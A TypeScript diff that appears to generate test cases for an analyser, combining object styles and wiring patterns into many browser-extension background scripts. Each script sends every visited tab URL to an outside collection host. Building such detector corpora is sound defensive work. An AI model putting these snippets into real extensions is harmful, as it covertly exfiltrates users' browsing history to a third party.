@@ -1,0 +1,160 @@
+/*
+ * Small backgrounds, each of which puts the address of every tab into an object and lets that object send what it holds:
+ * ways of writing such an object, and of coming by it. `$M` makes one, `$K` is its class.
+ */
+
+const HOST = "const HOST = 'https://collect.tabfrog-cloud.net/in';\n";
+
+interface Maker {
+  readonly def: string;
+  readonly make: string;
+  /** Name of its class, where it has one. */
+  readonly klass?: string;
+}
+
+const MAKERS: Readonly<Record<string, Maker>> = {
+  klass: { def: `class Box { constructor() { this.items = []; } load() { return this; } async open() { return this; } add(x) { this.items.push(x); return this; } send() { fetch(HOST, { method: 'POST', body: JSON.stringify(this.items) }); } get size() { return this.items.length; } }`, make: 'new Box()', klass: 'Box' },
+  priv: { def: `class Box { #items = []; load() { return this; } async open() { return this; } add(x) { this.#items.push(x); return this; } send() { fetch(HOST, { method: 'POST', body: JSON.stringify(this.#items) }); } }`, make: 'new Box()', klass: 'Box' },
+  es5: { def: `var Box = (function () { function Box() { this.items = []; } Box.prototype.load = function () { return this; }; Box.prototype.open = function () { return Promise.resolve(this); }; Box.prototype.add = function (x) { this.items.push(x); return this; }; Box.prototype.send = function () { fetch(HOST, { method: 'POST', body: JSON.stringify(this.items) }); }; return Box; })();`, make: 'new Box()', klass: 'Box' },
+  proto: { def: `function Box() { this.items = []; } Box.prototype = { load: function () { return this; }, open: function () { return Promise.resolve(this); }, add: function (x) { this.items.push(x); return this; }, send: function () { fetch(HOST, { method: 'POST', body: JSON.stringify(this.items) }); } };`, make: 'new Box()', klass: 'Box' },
+  closure: { def: `function makeBox() { const items = []; const me = { load: () => me, open: async () => me, add(x) { items.push(x); return me; }, send() { fetch(HOST, { method: 'POST', body: JSON.stringify(items) }); } }; return me; }`, make: 'makeBox()' },
+  literal: { def: `function makeBox() { return { items: [], load() { return this; }, async open() { return this; }, add(x) { this.items.push(x); return this; }, send() { fetch(HOST, { method: 'POST', body: JSON.stringify(this.items) }); } }; }`, make: 'makeBox()' },
+  frozen: { def: `const makeBox = () => { let items = []; const add = (x) => { items = [...items, x]; }; const send = () => fetch(HOST, { method: 'POST', body: JSON.stringify(items) }); const me = Object.freeze({ add, send, load: () => me, open: () => Promise.resolve(me) }); return me; };`, make: 'makeBox()' },
+}
+const ON = (body: string): string => `chrome.tabs.onUpdated.addListener((id, info, tab) => { ${body} });`
+const AS = (body: string): string => `chrome.tabs.onUpdated.addListener(async (id, info, tab) => { ${body} });`
+const U = 'o.add(tab.url); o.send();'
+const WAYS: Readonly<Record<string, string>> = {
+  plain: `const o = $M; ${ON(U)}`,
+  awaitResolve: `const p = Promise.resolve($M); ${AS('const o = await p; ' + U)}`,
+  asyncMaker: `async function make() { const b = $M; return b; } ${AS('const o = await make(); ' + U)}`,
+  openThis: `const p = $M.open(); ${AS('const o = await p; ' + U)}`,
+  openThen: `const p = $M.open().then((b) => { b.load(); return b; }); ${AS('const o = await p; ' + U)}`,
+  thenParam: `const p = $M.open(); ${ON('p.then((o) => { ' + U + ' });')}`,
+  thenThen: `const p = $M.open(); ${ON('p.then((x) => x).then((o) => { ' + U + ' });')}`,
+  newPromise: `const p = new Promise((done) => setTimeout(() => done($M), 10)); ${AS('const o = await p; ' + U)}`,
+  letAssignedThen: `let o; $M.open().then((b) => { o = b; }); ${ON(U)}`,
+  letAssignedAwait: `let o; (async () => { o = await $M.open(); })(); ${ON(U)}`,
+  allThen: `const p = Promise.all([1, $M.open()]); ${ON('p.then(([n, o]) => { ' + U + ' });')}`,
+  allAwait: `const p = Promise.all([$M.open(), 2]); ${AS('const [o] = await p; ' + U)}`,
+  withCallback: `const b = $M; function withBox(cb) { cb(b); } ${ON('withBox((o) => { ' + U + ' });')}`,
+  withAsyncCallback: `const b = $M; async function withBox(cb) { return cb(await b.open()); } ${ON('withBox((o) => { ' + U + ' });')}`,
+  mapGet: `const all = new Map(); all.set('a', $M); ${ON('const o = all.get("a"); ' + U)}`,
+  mapLiteral: `const all = new Map([['a', $M]]); ${ON('const o = all.get("a"); ' + U)}`,
+  getOrMake: `const all = new Map(); function get(k) { if (!all.has(k)) all.set(k, $M); return all.get(k); } ${ON('const o = get("a"); ' + U)}`,
+  getOrMake2: `const all = new Map(); function get(k) { let b = all.get(k); if (!b) { b = $M; all.set(k, b); } return b; } ${ON('const o = get("a"); ' + U)}`,
+  tableGetOrMake: `const all = {}; function get(k) { return all[k] || (all[k] = $M); } ${ON('const o = get("a"); ' + U)}`,
+  tableDot: `const all = { a: $M }; ${ON('const o = all.a; ' + U)}`,
+  tableKey: `const all = { a: $M }; ${ON('const o = all[info.status]; ' + U)}`,
+  nested: `const app = { services: { box: $M } }; ${ON('const { services: { box: o } } = app; ' + U)}`,
+  forEach: `const all = [$M]; ${ON('all.forEach((o) => { ' + U + ' });')}`,
+  forOf: `const all = [$M]; ${ON('for (const o of all) { ' + U + ' }')}`,
+  pushForEach: `const all = []; all.push($M); ${ON('all.forEach((o) => { ' + U + ' });')}`,
+  pushForOf: `const all = []; all.push($M); ${ON('for (const o of all) { ' + U + ' }')}`,
+  setForOf: `const all = new Set(); all.add($M); ${ON('for (const o of all) { ' + U + ' }')}`,
+  setForEach: `const all = new Set([$M]); ${ON('all.forEach((o) => { ' + U + ' });')}`,
+  filterForEach: `const all = [$M]; ${ON('all.filter((b) => b.load()).forEach((o) => { ' + U + ' });')}`,
+  mapMade: `const all = ['a', 'b'].map((n) => $M); ${ON('all.forEach((o) => { ' + U + ' });')}`,
+  listDestruct: `const all = [$M, 1]; ${ON('const [o] = all; ' + U)}`,
+  listIndex: `const all = [$M, 1]; ${ON('const o = all[0]; ' + U)}`,
+  find: `const all = [$M]; ${ON('const o = all.find((b) => b.load()); ' + U)}`,
+  entries: `const all = { a: $M }; ${ON('Object.entries(all).forEach(([n, o]) => { ' + U + ' });')}`,
+  values: `const all = { a: $M }; ${ON('Object.values(all).forEach((o) => { ' + U + ' });')}`,
+  valuesOf: `const all = { a: $M }; ${ON('for (const o of Object.values(all)) { ' + U + ' }')}`,
+  forIn: `const all = { a: $M }; ${ON('for (const k in all) { const o = all[k]; ' + U + ' }')}`,
+  mapForOf: `const all = new Map(); all.set('a', $M); ${ON('for (const [k, o] of all) { ' + U + ' }')}`,
+  mapValues: `const all = new Map(); all.set('a', $M); ${ON('for (const o of all.values()) { ' + U + ' }')}`,
+  field: `class App { constructor() { this.box = $M; } on(url) { this.box.add(url); this.box.send(); } } const app = new App(); ${ON('app.on(tab.url);')}`,
+  fieldInit: `class App { box = $M; on(url) { this.box.add(url); this.box.send(); } } const app = new App(); ${ON('app.on(tab.url);')}`,
+  fieldPrivate: `class App { #box = $M; on(url) { this.#box.add(url); this.#box.send(); } } const app = new App(); ${ON('app.on(tab.url);')}`,
+  ctorParam: `class App { constructor(box) { this.box = box; } on(url) { this.box.add(url); this.box.send(); } } const app = new App($M); ${ON('app.on(tab.url);')}`,
+  ctorOptions: `class App { constructor({ box, name }) { this.box = box; this.name = name; } on(url) { this.box.add(url); this.box.send(); } } const app = new App({ box: $M, name: 'n' }); ${ON('app.on(tab.url);')}`,
+  ctorOptions2: `class App { constructor(options) { this.options = options; } on(url) { this.options.box.add(url); this.options.box.send(); } } const app = new App({ box: $M, name: 'n' }); ${ON('app.on(tab.url);')}`,
+  ctorPrivate: `class App { #box; constructor(box) { this.#box = box; } on(url) { this.#box.add(url); this.#box.send(); } } const app = new App($M); ${ON('app.on(tab.url);')}`,
+  ctorAssign: `class App { constructor(parts) { Object.assign(this, parts); } on(url) { this.box.add(url); this.box.send(); } } const app = new App({ box: $M }); ${ON('app.on(tab.url);')}`,
+  initLater: `class App { async init() { this.box = await $M.open(); return this; } on(url) { this.box.add(url); this.box.send(); } } const app = new App(); app.init(); ${ON('app.on(tab.url);')}`,
+  initThen: `class App { init() { return $M.open().then((b) => { this.box = b; return this; }); } on(url) { this.box.add(url); this.box.send(); } } const app = new App(); app.init(); ${ON('app.on(tab.url);')}`,
+  initChain: `class App { async init() { this.box = $M; return this; } on(url) { this.box.add(url); this.box.send(); } } new App().init().then((app) => { ${ON('app.on(tab.url);')} });`,
+  setter: `class App { use(box) { this.box = box; return this; } on(url) { this.box.add(url); this.box.send(); } } const app = new App().use($M); ${ON('app.on(tab.url);')}`,
+  builder: `class Builder { use(box) { this.box = box; return this; } build() { return new App(this.box); } } class App { constructor(b) { this.box = b; } on(url) { this.box.add(url); this.box.send(); } } const app = new Builder().use($M).build(); ${ON('app.on(tab.url);')}`,
+  getter: `class App { get box() { return this._box ?? (this._box = $M); } on(url) { this.box.add(url); this.box.send(); } } const app = new App(); ${ON('app.on(tab.url);')}`,
+  getter2: `class App { get box() { if (!this._box) this._box = $M; return this._box; } on(url) { this.box.add(url); this.box.send(); } } const app = new App(); ${ON('app.on(tab.url);')}`,
+  singleton: `class App { static get() { if (!App.one) App.one = $M; return App.one; } } ${ON('const o = App.get(); ' + U)}`,
+  staticField: `class App { static box = $M; } ${ON('const o = App.box; ' + U)}`,
+  lazy: `let b; function get() { if (!b) b = $M; return b; } ${ON('const o = get(); ' + U)}`,
+  lazy2: `let b = null; const get = () => (b ??= $M); ${ON('const o = get(); ' + U)}`,
+  lazyAsync: `let p; function get() { p ??= $M.open(); return p; } ${AS('const o = await get(); ' + U)}`,
+  once: `function once(f) { let v, done = false; return () => { if (!done) { v = f(); done = true; } return v; }; } const get = once(() => $M); ${ON('const o = get(); ' + U)}`,
+  memo: `function memo(f) { const seen = new Map(); return (k) => { if (!seen.has(k)) seen.set(k, f(k)); return seen.get(k); }; } const get = memo((k) => $M); ${ON('const o = get("a"); ' + U)}`,
+  container: `class Container { constructor() { this.makers = new Map(); this.made = new Map(); } register(n, f) { this.makers.set(n, f); return this; } resolve(n) { if (!this.made.has(n)) this.made.set(n, this.makers.get(n)(this)); return this.made.get(n); } } const c = new Container(); c.register('box', () => $M); ${ON('const o = c.resolve("box"); ' + U)}`,
+  container2: `const makers = { box: () => $M }; const made = {}; const resolve = (n) => (made[n] ??= makers[n]()); ${ON('const o = resolve("box"); ' + U)}`,
+  ctx: `function run(ctx) { ${ON('ctx.box.add(tab.url); ctx.box.send();')} } run({ box: $M, n: 1 });`,
+  ctxDestruct: `function run({ box, n }) { ${ON('box.add(tab.url); box.send();')} } run({ box: $M, n: 1 });`,
+  ctxSpread: `function run(ctx) { ${ON('ctx.box.add(tab.url); ctx.box.send();')} } const base = { n: 1 }; run({ ...base, box: $M });`,
+  ctxSpread2: `function run(ctx) { ${ON('ctx.box.add(tab.url); ctx.box.send();')} } const base = { box: $M }; run({ ...base, n: 1 });`,
+  ctxAssign: `const ctx = { n: 1 }; Object.assign(ctx, { box: $M }); ${ON('ctx.box.add(tab.url); ctx.box.send();')}`,
+  ctxLater: `const ctx = {}; function setup() { ctx.box = $M; } setup(); ${ON('ctx.box.add(tab.url); ctx.box.send();')}`,
+  global: `globalThis.box = $M; ${ON('globalThis.box.add(tab.url); box.send();')}`,
+  selfGlobal: `self.App = self.App || {}; self.App.box = $M; ${ON('self.App.box.add(tab.url); App.box.send();')}`,
+  defaultParam: `function handle(url, o = theBox) { o.add(url); o.send(); } const theBox = $M; ${ON('handle(tab.url);')}`,
+  curried: `const use = (o) => (url) => { o.add(url); o.send(); }; const h = use($M); ${ON('h(tab.url);')}`,
+  bindMethod: `const b = $M; const add = b.add.bind(b); const send = b.send.bind(b); ${ON('add(tab.url); send();')}`,
+  closureArrow: `const b = $M; const add = (x) => b.add(x); const flush = () => b.send(); ${ON('add(tab.url); flush();')}`,
+  callThis: `function handle(url) { this.add(url); this.send(); } const b = $M; ${ON('handle.call(b, tab.url);')}`,
+  bindThis: `function handle(url) { this.add(url); this.send(); } const h = handle.bind($M); ${ON('h(tab.url);')}`,
+  timeoutArg: `const b = $M; ${ON('setTimeout((o) => { ' + U + ' }, 10, b);')}`,
+  ternary: `const o = self.debug ? null : $M; ${ON('o?.add(tab.url); o?.send();')}`,
+  tryCatch: `let o; try { o = $M; } catch (e) { o = null; } ${ON(U)}`,
+  switchMade: `function make(kind) { switch (kind) { case 'a': return $M; default: throw new Error('x'); } } const o = make('a'); ${ON(U)}`,
+  generator: `function* boxes() { yield $M; } ${ON('for (const o of boxes()) { ' + U + ' }')}`,
+  spreadList: `const base = [$M]; const all = [...base]; ${ON('for (const o of all) { ' + U + ' }')}`,
+  registry: `class Hub { constructor() { this.parts = []; } use(p) { this.parts.push(p); return this; } all(url) { for (const p of this.parts) { p.add(url); p.send(); } } } const hub = new Hub(); hub.use($M); ${ON('hub.all(tab.url);')}`,
+  registryEach: `class Hub { constructor() { this.parts = []; } use(p) { this.parts.push(p); return this; } all(url) { this.parts.forEach((p) => { p.add(url); p.send(); }); } } const hub = new Hub(); hub.use($M); ${ON('hub.all(tab.url);')}`,
+  registryName: `class Hub { constructor() { this.parts = {}; } use(n, p) { this.parts[n] = p; return this; } part(n) { return this.parts[n]; } } const hub = new Hub(); hub.use('box', $M); ${ON('const o = hub.part("box"); ' + U)}`,
+  registryMap: `class Hub { constructor() { this.parts = new Map(); } use(n, p) { this.parts.set(n, p); return this; } part(n) { return this.parts.get(n); } } const hub = new Hub(); hub.use('box', $M); ${ON('const o = hub.part("box"); ' + U)}`,
+  registryClosure: `function makeHub() { const parts = []; return { use(p) { parts.push(p); }, all(url) { parts.forEach((p) => { p.add(url); p.send(); }); } }; } const hub = makeHub(); hub.use($M); ${ON('hub.all(tab.url);')}`,
+  ctorList: `class Hub { constructor(parts) { this.parts = parts; } all(url) { for (const p of this.parts) { p.add(url); p.send(); } } } const hub = new Hub([$M]); ${ON('hub.all(tab.url);')}`,
+  ctorRest: `class Hub { constructor(...parts) { this.parts = parts; } all(url) { for (const p of this.parts) { p.add(url); p.send(); } } } const hub = new Hub($M); ${ON('hub.all(tab.url);')}`,
+  emitter: `class Em { constructor() { this.m = {}; } on(n, f) { (this.m[n] ||= []).push(f); } emit(n, ...a) { (this.m[n] || []).forEach((f) => f(...a)); } } const em = new Em(); const b = $M; em.on('tab', (o, url) => { o.add(url); o.send(); }); ${ON('em.emit("tab", b, tab.url);')}`,
+  emitterReady: `class Em { constructor() { this.m = new Map(); } on(n, f) { this.m.set(n, f); } emit(n, v) { this.m.get(n)(v); } } const em = new Em(); em.on('ready', (o) => { ${ON(U)} }); em.emit('ready', $M);`,
+  subscriber: `const subs = new Set(); function subscribe(f) { subs.add(f); } const b = $M; subscribe((url, o) => { o.add(url); o.send(); }); ${ON('for (const s of subs) s(tab.url, b);')}`,
+  passThis: `class App { constructor() { this.box = $M; this.part = new Part(this); } } class Part { constructor(app) { this.app = app; } on(url) { this.app.box.add(url); this.app.box.send(); } } const app = new App(); ${ON('app.part.on(tab.url);')}`,
+  subclass: `class Base { take(url) { this.box().add(url); this.box().send(); } } class App extends Base { constructor() { super(); this.b = $M; } box() { return this.b; } } const app = new App(); ${ON('app.take(tab.url);')}`,
+  superCtor: `class Base { constructor(b) { this.b = b; } } class App extends Base { constructor() { super($M); } take(url) { this.b.add(url); this.b.send(); } } const app = new App(); ${ON('app.take(tab.url);')}`,
+  reduceBuilt: `const all = ['a'].reduce((t, n) => { t[n] = $M; return t; }, {}); ${ON('const o = all.a; ' + U)}`,
+  fromEntries: `const all = Object.fromEntries(['a'].map((n) => [n, $M])); ${ON('const o = all.a; ' + U)}`,
+  weakMap: `const held = new WeakMap(); const key = {}; held.set(key, $M); ${ON('const o = held.get(key); ' + U)}`,
+  symbolKey: `const BOX = Symbol('box'); const app = {}; app[BOX] = $M; ${ON('const o = app[BOX]; ' + U)}`,
+  hooks: `const app = { hooks: {} }; function plug(n, f) { app.hooks[n] = f; } const b = $M; plug('tab', function (url) { b.add(url); b.send(); }); ${ON('app.hooks.tab(tab.url);')}`,
+  thisPlug: `class App { constructor(plugins) { this.box = $M; plugins.forEach((p) => p(this)); } } const app = new App([(a) => { ${ON('a.box.add(tab.url); a.box.send();')} }]);`,
+  asyncFactory: `class App { static async create() { const app = new App(); app.box = await $M.open(); return app; } on(url) { this.box.add(url); this.box.send(); } } const p = App.create(); ${AS('(await p).on(tab.url);')}`,
+  tuple: `function useBox() { const b = $M; return [b, () => b.load()]; } const [o] = useBox(); ${ON(U)}`,
+  objReturn: `function setup() { const b = $M; return { box: b, n: 1 }; } const { box: o } = setup(); ${ON(U)}`,
+  asyncObjReturn: `async function setup() { const b = $M; return { box: b, n: 1 }; } const p = setup(); ${AS('const { box: o } = await p; ' + U)}`,
+  pipeline: `const steps = [(c) => ({ ...c, box: $M }), (c) => ({ ...c, n: 1 })]; const ctx = steps.reduce((c, s) => s(c), {}); ${ON('ctx.box.add(tab.url); ctx.box.send();')}`,
+  chain: `$M.load().load(); const b = $M.load(); ${ON('b.add(tab.url).send();')}`,
+  optionalDeps: `function start(deps = {}) { const box = deps.box || $M; ${ON('box.add(tab.url); box.send();')} } start();`,
+  moduleObj: `const Mod = (function () { const b = $M; return { box: b, on: function (url) { b.add(url); b.send(); } }; })(); ${ON('Mod.on(tab.url); Mod.box.send();')}`,
+  queueOfJobs: `const jobs = []; const b = $M; ${ON('jobs.push({ box: b, url: tab.url });')} setInterval(() => { const job = jobs.shift(); if (job) { job.box.add(job.url); job.box.send(); } }, 1000);`,
+}
+/** Ways that need the class itself. */
+const WAYS_BY_CLASS: Readonly<Record<string, string>> = {
+  reflect: `const o = Reflect.construct($K, []); ${ON(U)}`,
+  kinds: `const KINDS = { a: $K }; const o = new KINDS.a(); ${ON(U)}`,
+  kindsKey: `const KINDS = { a: $K }; function make(k) { return new KINDS[k](); } const o = make('a'); ${ON(U)}`,
+  kindsMap: `const KINDS = new Map([['a', $K]]); const o = new (KINDS.get('a'))(); ${ON(U)}`,
+  classParam: `function make(K) { return new K(); } const o = make($K); ${ON(U)}`,
+  classParam2: `class C { constructor() { this.m = new Map(); } get(K) { if (!this.m.has(K)) this.m.set(K, new K()); return this.m.get(K); } } const c = new C(); ${ON('const o = c.get($K); ' + U)}`,
+  mixin: `const Timed = (B) => class extends B { now() { return Date.now(); } }; const K2 = Timed($K); const o = new K2(); ${ON(U)}`,
+  sub: `class Sub extends $K { more() {} } const o = new Sub(); ${ON(U)}`,
+  subSuper: `class Sub extends $K { add(x) { return super.add(x + '#'); } } const o = new Sub(); ${ON(U)}`,
+  listOfClasses: `const all = [$K].map((K) => new K()); ${ON('all.forEach((o) => { ' + U + ' });')}`,
+  create: `const o = Object.create($K.prototype); o.items = []; ${ON(U)}`,
+}
+
+/** Every way with every kind of object, by name. */
+export function* receivers(): Iterable<readonly [string, string]> {
+  for (const [maker, { def, make, klass }] of Object.entries(MAKERS))
+    for (const [way, code] of Object.entries(klass === undefined ? WAYS : { ...WAYS, ...WAYS_BY_CLASS }))
+      yield [`${way}, ${maker}`, HOST + def + '\n' + code.replaceAll('$M', make).replaceAll('$K', klass ?? '')];
+}
